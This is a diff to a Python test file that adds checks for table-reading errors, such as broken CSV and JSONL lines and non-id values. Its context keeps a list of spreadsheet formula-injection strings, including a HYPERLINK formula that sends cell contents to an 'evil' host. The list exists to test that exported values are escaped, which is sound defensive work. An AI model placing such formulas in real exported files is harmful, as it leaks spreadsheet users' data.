@@ -9,9 +9,11 @@ import polars as pl
 import pytest
 
 import negatives as neg
+from negatives.errors import DataError
 from negatives.measure.review import draw_sample, read_review
-from negatives.read.table import read_table, write_table
+from negatives.read.table import ids_of, read_table, write_table
 from tests.cli.commands import negatives
+from tests.each import for_each
 
 TEXTS = [
     '=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1",
@@ -61,3 +63,40 @@ def test_a_sample_with_formulas_is_judged_as_what_it_is(tmp_path: Path) -> None:
     assert told.returncode == 0, told.stderr
     assert sorted(set(read_table(values)["query_id"])) == ["-q", "@q"]
     assert "'-q" in values.read_text()
+
+
+@for_each(
+    ("name", "content", "says"),
+    [
+        ("a.csv", "", "the table is empty"),
+        ("a.jsonl", "\n\n", "the table is empty"),
+        ("a.csv", "id,id\n1,2\n", "column 'id' comes twice"),
+        ("a.csv", "id,name\n1,2\n1,2,3\n", "line 3: 3 columns, where the first line has 2"),
+        ("a.csv", 'id,name\n1,"2\n', "quotation marks that do not match"),
+        ("a.jsonl", '{"id": 1}\n{"id": 2\n', "line 2: Expecting ',' delimiter"),
+        ("a.jsonl", '{"id": 1, "id": 2}\n', "line 1: 'id' comes twice"),
+        ("a.jsonl", '{"id": "a"}\n{"id": "b"}\n{"id": ["c"]}\n', "'id' is \"a\", unlike"),
+        ("a.jsonl", '{"id": "a"}\n{"id": "b"}\n{"id": true}\n', "line 3: 'id' is true, unlike"),
+        ("a.jsonl", '[{"id": "a"}]\n', "expected an object"),
+    ],
+)
+def test_a_table_that_is_broken_says_in_which_line(
+    name: str, content: str, says: str, tmp_path: Path
+) -> None:
+    (tmp_path / name).write_text(content)
+    with pytest.raises(DataError) as caught:
+        read_table(tmp_path / name)
+    assert says in str(caught.value)
+    assert str(tmp_path / name) in str(caught.value)
+
+
+@for_each("values", [[1.5, 2.0], [True, False], [["a"], ["b"]], [{"a": 1}, {"a": 2}]])
+def test_what_is_no_id_never_becomes_one(values: list[object]) -> None:
+    with pytest.raises(DataError, match=r"column 'id' holds .*, and no ids"):
+        ids_of(pl.DataFrame({"id": values}), "id", "a.parquet")
+
+
+def test_ids_may_be_numbers_or_texts_or_both(tmp_path: Path) -> None:
+    (tmp_path / "a.jsonl").write_text('{"id": 7}\n{"id": "b"}\n{"id": null}\n')
+    assert ids_of(read_table(tmp_path / "a.jsonl"), "id", "").to_list() == ["7", "b", None]
+    assert ids_of(pl.DataFrame({"id": [7]}), "id", "").to_list() == ["7"]
